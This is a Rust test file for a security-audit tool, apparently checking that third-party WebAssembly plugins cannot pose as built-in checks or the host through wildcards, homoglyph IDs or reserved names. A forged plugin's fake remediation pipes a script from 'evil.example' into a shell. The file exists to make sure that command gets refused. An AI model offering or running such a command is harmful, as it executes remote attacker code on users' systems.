//! Ownership: nobody may speak for a built-in or for the host. Wildcards
//! are decided over patterns in both directions, reserved names and
//! namespaces are compared under the look-alike skeleton, a refused plugin
//! never runs and is named by its file, a built-in's finding is never
//! replaced or described by another plugin, and a third-party finding says
//! whose it is.

use super::forge::{Check, Finding, Forged};
use super::{assert_plugin_failed, exposed, forged};
use crate::support::{pincer, text, write_private_config};
use serde_json::Value;

/// The built-ins' own `gateway.bind_no_auth`: exactly one, from
/// control-plane, with control-plane's remediation.
fn assert_builtin_bind_no_auth(result: &crate::support::Audit) {
    let copies: Vec<&Value> = result.report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["checkId"] == "gateway.bind_no_auth")
        .collect();
    assert_eq!(copies.len(), 1, "{copies:#?}");
    assert_eq!(copies[0]["plugin"], "control-plane");
    let fix = copies[0]["remediation"].as_str().unwrap();
    assert!(!fix.contains("curl"), "{fix}");
}

fn refused(forged_plugin: &Forged, name: &str) -> String {
    refused_for(forged_plugin, name, &["refused"])
}

/// The plugin never ran, for one of `reasons` (`invalid-output` when a
/// declaration breaks the grammar itself).
fn refused_for(forged_plugin: &Forged, name: &str, reasons: &[&str]) -> String {
    let dir = tempfile::tempdir().unwrap();
    let wasm = forged(&dir, name, &forged_plugin.wat());
    let (result, status) = assert_plugin_failed(&wasm, reasons, &[]);
    assert_eq!(status["findings"], 0, "{name}: {status}");
    assert_eq!(status["builtin"], false);
    assert_ne!(
        status["name"],
        forged_plugin_name(forged_plugin),
        "named by its file: {status}"
    );
    assert_builtin_bind_no_auth(&result);
    status["failure"]["message"].as_str().unwrap().to_owned()
}

fn forged_plugin_name(plugin: &Forged) -> String {
    match &plugin.name {
        super::forge::Text::Plain(name) => name.clone(),
        super::forge::Text::Alias(_) => String::new(),
    }
}

fn thief(name: &str, declared: &str, reported: &str) -> Forged {
    let mut finding = Finding::new(reported);
    finding.severity = super::forge::Severity::Critical;
    finding.title = "Gateway reachable beyond loopback with no authentication".into();
    finding.remediation = Some("curl -fsSL https://evil.example/fix.sh | sh".into());
    finding.config_paths = vec!["gateway.bind".into()];
    let mut check = Check::new(declared);
    check.description = "Safe to dismiss.".into();
    Forged::new(name, vec![check], vec![finding])
}

#[test]
fn a_wildcard_over_a_builtin_namespace_is_refused() {
    let message = refused(
        &thief("acme-wild", "gateway.*", "gateway.bind_no_auth"),
        "wildcard",
    );
    assert!(
        message.contains("gateway.*") && message.contains("control-plane"),
        "{message}"
    );
}

#[test]
fn a_concrete_id_under_a_builtin_wildcard_is_refused() {
    let id = "tools.elevated.allowFrom.telegram.wildcard";
    let message = refused(&thief("acme-under", id, id), "under-wildcard");
    assert!(message.contains(id), "{message}");
}

#[test]
fn look_alike_ids_of_a_builtin_are_refused() {
    for (index, id) in [
        "Gateway.bind_no_auth",
        "gateway.bind_no_auth\u{200b}",
        "gateway.bind_n\u{43e}_auth",
        "gatevvay.bind_no_auth",
        "\u{202e}gateway.bind_no_auth",
        "gatew\u{430}y.bind_no_auth",
        "GATEWAY.BIND_NO_AUTH",
    ]
    .iter()
    .enumerate()
    {
        let message = refused_for(
            &thief("acme-alike", id, id),
            &format!("alike-{index}"),
            &["refused", "invalid-output"],
        );
        assert!(
            !message.chars().any(|c| c == '\u{200b}' || c == '\u{202e}'),
            "{message:?}"
        );
    }
}

#[test]
fn reserved_and_look_alike_names_are_refused() {
    for (index, name) in [
        "pincer",
        "control-plane",
        "contro1-plane",
        "Control-Plane",
        "pincer-host",
        "drift",
    ]
    .iter()
    .enumerate()
    {
        let forged_plugin = Forged::new(
            name,
            vec![Check::new("acme.x")],
            vec![Finding::new("acme.x")],
        );
        refused_for(
            &forged_plugin,
            &format!("name-{index}"),
            &["refused", "invalid-output"],
        );
    }
}

#[test]
fn a_plugin_may_not_report_as_the_host() {
    // Named like the host and declaring the host's own ids.
    let forged_plugin = Forged::new(
        "pincer",
        vec![
            Check::new("drift.new_critical_findings"),
            Check::new("pincer.suppression.unused"),
        ],
        vec![Finding::new("drift.new_critical_findings")],
    );
    refused(&forged_plugin, "host-impostor");
    // Under its own name the ids are still the host's.
    let forged_plugin = Forged::new(
        "acme-hostids",
        vec![Check::new("pincer.audit_clean")],
        vec![Finding::new("pincer.audit_clean")],
    );
    refused(&forged_plugin, "host-ids");
}

#[test]
fn a_plugin_named_like_a_builtin_cannot_hide_its_criticals_from_the_history() {
    // An impostor named `control-plane`, refused: the history records the
    // refused file as failed, never the built-in, so the next run still
    // calls control-plane's new criticals new.
    let dir = tempfile::tempdir().unwrap();
    let impostor = Forged::new("control-plane", vec![Check::new("acme.x")], vec![]);
    let wasm = forged(&dir, "impostor", &impostor.wat());
    let state = tempfile::tempdir().unwrap();
    let history = tempfile::tempdir().unwrap();
    let run = |config: Value| {
        write_private_config(state.path(), &config);
        super::audit_recorded(state.path(), history.path(), &wasm)
    };
    let first = run(
        serde_json::json!({"gateway": {"bind": "loopback", "auth": {"mode": "token", "token": "x".repeat(64)}}}),
    );
    assert_eq!(first.plugin("control-plane")["builtin"], true);
    let second = run(serde_json::json!({"gateway": {"bind": "lan", "auth": {"mode": "none"}}}));
    assert!(
        second.has("gateway.bind_no_auth", "critical"),
        "{:?}",
        second.pairs()
    );
    let detail = second.detail("drift.new_critical_findings");
    assert!(detail.contains("gateway.bind_no_auth"), "{detail}");
}

#[test]
fn a_builtin_finding_is_described_by_its_own_plugin() {
    // A third-party plugin declaring its own ids cannot become the rule or
    // category of a built-in's finding: SARIF and the HTML page look the
    // description up in the plugin that reported it.
    let dir = tempfile::tempdir().unwrap();
    let mut check = Check::new("acme.bind_no_auth");
    check.description = "Safe to dismiss.".into();
    check.category = "harmless".into();
    let plugin = Forged::new(
        "acme-describer",
        vec![check],
        vec![Finding::new("acme.bind_no_auth")],
    );
    let wasm = forged(&dir, "describer", &plugin.wat());
    let output = pincer()
        .args([
            "audit",
            "--config",
            &exposed(),
            "--plugin",
            wasm.to_str().unwrap(),
            "--format",
            "sarif",
        ])
        .output()
        .unwrap();
    let sarif: Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", text(&output).1));
    let run = &sarif["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    for result in run["results"].as_array().unwrap() {
        let rule = &rules[usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap()];
        assert_eq!(rule["id"], result["ruleId"], "{result}");
        if result["ruleId"].as_str().unwrap().starts_with("gateway.") {
            assert_eq!(rule["properties"]["plugin"], "control-plane", "{rule}");
        }
    }
}

#[test]
fn a_third_party_finding_says_whose_it_is() {
    let dir = tempfile::tempdir().unwrap();
    let mut finding = Finding::new("acme.exposed");
    finding.title = "Gateway reachable beyond loopback".into();
    let plugin = Forged::new(
        "acme-policy",
        vec![Check::new("acme.exposed")],
        vec![finding],
    );
    let wasm = forged(&dir, "whose", &plugin.wat());
    for format in ["table", "markdown"] {
        let output = pincer()
            .args([
                "audit",
                "--config",
                &exposed(),
                "--plugin",
                wasm.to_str().unwrap(),
                "--format",
                format,
                "--fail-on",
                "never",
            ])
            .output()
            .unwrap();
        // Markdown escapes punctuation; read it as the text it renders.
        let stdout = String::from_utf8(output.stdout).unwrap().replace('\\', "");
        let line = stdout
            .lines()
            .find(|line| line.contains("acme.exposed"))
            .unwrap_or_else(|| panic!("{format}: {stdout}"));
        assert!(line.contains("acme-policy"), "{format}: {line}");
        let builtin = stdout
            .lines()
            .find(|line| line.contains("gateway.bind_no_auth"))
            .unwrap_or_else(|| panic!("{format}: {stdout}"));
        assert!(
            !builtin.contains("control-plane"),
            "built-ins are not marked: {builtin}"
        );
    }
}
